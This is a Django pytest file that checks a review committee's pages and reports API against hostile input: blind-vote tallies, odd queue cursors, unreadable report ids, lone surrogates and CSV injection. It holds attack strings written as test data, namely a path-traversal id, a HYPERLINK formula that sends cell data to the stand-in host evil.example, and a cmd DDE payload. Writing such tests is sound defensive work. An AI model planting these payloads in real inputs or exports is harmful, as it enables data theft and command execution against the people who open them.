"""Hostile input to the committee's pages and the reports API (issue #12's
medium and low findings): blind votes leak no tally, queue cursors at the
calendar's edge, report ids the API could not read back."""

import csv
import io
import json
from urllib.parse import quote

import pytest
from django.urls import reverse
from django.utils import timezone

from fsar.testing import report_md
from reviews import services
from reviews.models import Report

pytestmark = pytest.mark.django_db
WHY = "I read the report and the rollback plan."


def case_for(post_report, report_id="r1", severity=30):
    return post_report(report_md(report_id, severity=severity)).json()["gate"]["case"]


# Blind votes: how many voted, never how many approved, until you vote.


def test_before_voting_the_case_page_shows_how_many_voted_never_how_many_approved(
    client, post_report, operator, alice, bob, charlie
):
    case_id = case_for(post_report)
    services.vote_cast(case_id=case_id, member=bob, choice="approve", rationale=WHY)

    def page(user):
        client.force_login(user)
        response = client.get(reverse("reviews:case", args=[case_id]))
        return response, response.content.decode()

    assert 'data-testid="quorum">1 of 2 approvals<' in page(operator)[1]  # the door: operators see the tally
    response, html = page(alice)
    assert 'data-testid="quorum">1 vote cast · 2 approvals needed<' in html
    assert "1 of 2" not in html and "approvals</span>" not in html
    assert response.context["approvals"] is None
    services.vote_cast(case_id=case_id, member=alice, choice="request_changes", rationale="Add a rollback plan first.")
    assert "2 votes cast · 2 approvals needed" in page(charlie)[1]
    assert 'data-testid="quorum">1 of 2 approvals<' in page(alice)[1]  # once she voted, she sees it


def test_the_queue_shows_no_tally_to_members_who_have_not_voted(client, post_report, operator, alice, bob):
    case_id = case_for(post_report)
    services.vote_cast(case_id=case_id, member=bob, choice="approve", rationale=WHY)

    def row(user) -> str:
        client.force_login(user)
        html = client.get(reverse("reviews:queue")).content.decode()
        return html.split(f'data-case="{case_id}"', 1)[1].split("</tr>", 1)[0]

    assert '<td class="quorum">1 of 2</td>' in row(operator)  # the door: the tally is on the row
    assert '<td class="quorum">1 cast · 2 needed</td>' in row(alice)
    assert '<td class="quorum">1 of 2</td>' in row(bob)  # bob voted


# The queue's keyset cursor at the calendar's edge (SQLite compares in UTC).


@pytest.mark.parametrize(
    "cursor",
    [
        "30~0001-01-01T00:00:00+14:00~1",
        "30~9999-12-31T23:59:59-14:00~1",
        "99999999999999999999~2026-01-01T00:00:00+00:00~1",
        "30~2026-01-01T00:00:00+00:00~99999999999999999999",
        "-1~2026-01-01T00:00:00+00:00~-5",
        "30~2026-01-01T00:00:00~1",
        "a~b~c",
        "30~2026-01-01T00:00:00+00:00",
    ],
)
def test_a_queue_cursor_at_the_calendars_edge_is_ignored_never_a_500(client, post_report, alice, cursor):
    case_id = case_for(post_report)
    client.force_login(alice)
    response = client.get(reverse("reviews:queue"), {"after": cursor})
    assert response.status_code == 200
    assert [row.pk for row in response.context["rows"]] == [case_id]  # the first page


def test_a_real_cursor_still_pages(client, post_report, alice):
    from reviews import selectors

    first, second = case_for(post_report, "a", 60), case_for(post_report, "b", 30)
    client.force_login(alice)
    rows = client.get(reverse("reviews:queue")).context["rows"]
    assert [r.pk for r in rows] == [first, second]
    cursor = selectors.encode_queue_cursor(rows[0])
    assert [r.pk for r in client.get(reverse("reviews:queue"), {"after": cursor}).context["rows"]] == [second]


# Report ids: refused at ingest when GET /api/v1/proposals/{id} could not read them back.

UNREADABLE_IDS = ["fsar/../../admin", "a/b", "a?b", "a#b", "a%2Fb", "a\\b", ".", "..", "fsar_ü", "a;b", "a<b>"]


@pytest.mark.adversary
@pytest.mark.parametrize("report_id", UNREADABLE_IDS)
@pytest.mark.parametrize("form", ["markdown", "json"])
def test_a_report_id_the_api_cannot_read_back_is_refused_at_ingest(agent, post_report, report_id, form):
    if form == "markdown":
        response = post_report(report_md(report_id))
    else:
        body = {"id": report_id, "timestamp": "2026-02-01T10:00:00Z", "proposal": "implement_idea: x",
                "severity": 6, "block_execution": False}  # fmt: skip
        response = agent.post("/api/v1/proposals", body, content_type="application/json")
    assert response.status_code == 422, response.content
    assert response.json()["field"] == "id" and "read it back" in response.json()["detail"]
    assert not Report.objects.exists()


@pytest.mark.adversary
def test_every_accepted_report_id_reads_back(agent, post_report):
    report_id = "fsar_A-z.0~9:x@y+z=w"
    assert post_report(report_md(report_id)).status_code == 201
    response = agent.get(f"/api/v1/proposals/{quote(report_id, safe='')}")
    assert response.status_code == 200 and response.json()["id"] == report_id


# Lone surrogates ("\ud800" in JSON): a 422 naming the field, nothing stored, never a 500.


def json_as_written(values: dict) -> str:
    """JSON with the strings exactly as given, so that a "\\ud800" escape reaches the server as the client wrote it."""

    def encode(v) -> str:
        if isinstance(v, str):
            return f'"{v}"'
        if isinstance(v, list):
            return "[" + ", ".join(encode(i) for i in v) + "]"
        return json.dumps(v)

    return "{" + ", ".join(f'"{k}": {encode(v)}' for k, v in values.items()) + "}"


@pytest.mark.adversary
@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"proposal": "implement_idea: a\\ud800b"}, "proposal"),  # the fingerprint hashes its UTF-8
        ({"id": "r\\udc00"}, "id"),
        ({"risks": ["fine", "bad\\udfff"]}, "risks[1]"),
        ({"supersedes": "\\ud800"}, "supersedes"),
        ({"x\\ud800": 1}, "body"),
    ],
    ids=["proposal", "id", "risk", "supersedes", "unknown-key"],
)
def test_a_report_with_a_lone_surrogate_is_a_422_naming_the_field(agent, change, field):
    fields = {"id": "r-ok", "timestamp": "2026-02-01T10:00:00Z", "proposal": "implement_idea: fine \\ud83d\\ude00",
              "severity": 6, "block_execution": False}  # fmt: skip
    ok = agent.post("/api/v1/proposals", json_as_written(fields), content_type="application/json")
    assert ok.status_code == 201 and ok.json()["proposal"].endswith("\U0001f600")  # the door: escapes are fine
    bad = json_as_written({**fields, "id": "r-bad", **change})
    response = agent.post("/api/v1/proposals", bad, content_type="application/json")
    assert response.status_code == 422, response.content
    assert response.json()["field"] == field and "lone surrogate" in response.json()["detail"]
    assert list(Report.objects.values_list("report_id", flat=True)) == ["r-ok"]


# CSV injection: what the AI client writes in a report reaches the case exports as text.


@pytest.mark.adversary
def test_formulas_in_a_report_are_text_in_the_case_and_range_csv_exports(frozen_clock, client, agent, operator, bob):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    report = {"id": "=1+1", "timestamp": "2026-02-01T10:00:00Z", "proposal": formula, "severity": 35,
              "risks": ["+cmd|' /C calc'!A0"], "mitigations": ["@SUM(1+1)"], "block_execution": False}  # fmt: skip
    response = agent.post("/api/v1/proposals", json.dumps(report), content_type="application/json")
    case_id = response.json()["gate"]["case"]
    services.comment_add(case_id=case_id, author=bob, text="-1 from me: =2+2")
    client.force_login(operator)
    today = timezone.now().date().isoformat()
    downloads = [
        client.get(f"/reviews/cases/{case_id}/export.csv").content.decode(),
        client.get("/reviews/export/", {"start": today, "end": today, "format": "csv"}).content.decode(),
    ]
    for body in downloads:
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        # The door: the attacker's text is in the download, whole; it is only made text.
        assert "'" + formula in cells and "'-1 from me: =2+2" in cells and "'=1+1" in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


# Decided cases: claiming or recusing changes nothing but the record, so it is refused, saying why.


@pytest.mark.parametrize("decision", ["approve", "reject"])
def test_recusing_from_or_claiming_a_decided_case_is_refused_with_a_message(
    client, post_report, alice, bob, charlie, decision
):
    from reviews.models import Case, Recusal

    case_id = case_for(post_report)
    client.force_login(charlie)
    # The door: on an open case both work.
    assert client.post(reverse("reviews:claim", args=[case_id])).status_code == 302
    assert Case.objects.get(pk=case_id).claimed_by == charlie
    services.case_release(case_id=case_id, member=charlie)
    services.vote_cast(case_id=case_id, member=alice, choice=decision, rationale=WHY)
    if decision == "approve":
        services.vote_cast(case_id=case_id, member=bob, choice="approve", rationale=WHY)
    case = Case.objects.get(pk=case_id)
    assert case.status == ("approved" if decision == "approve" else "rejected")

    response = client.post(reverse("reviews:claim", args=[case_id]), follow=True)
    message = [str(m) for m in response.context["messages"]][-1]
    assert message.startswith(f"This case was already decided ({case.get_status_display().lower()} on")
    assert "there is nothing to claim" in message
    response = client.post(reverse("reviews:recuse", args=[case_id]), {"reason": "I know the team."}, follow=True)
    assert "there is nothing to recuse from" in [str(m) for m in response.context["messages"]][-1]
    case.refresh_from_db()
    assert case.claimed_by is None and not Recusal.objects.filter(case=case).exists()
    html = response.content.decode()
    assert "Claim: I am working on this" not in html and "Recuse myself" not in html
    with pytest.raises(services.NotAllowed, match="already decided"):
        services.case_claim(case_id=case_id, member=charlie)
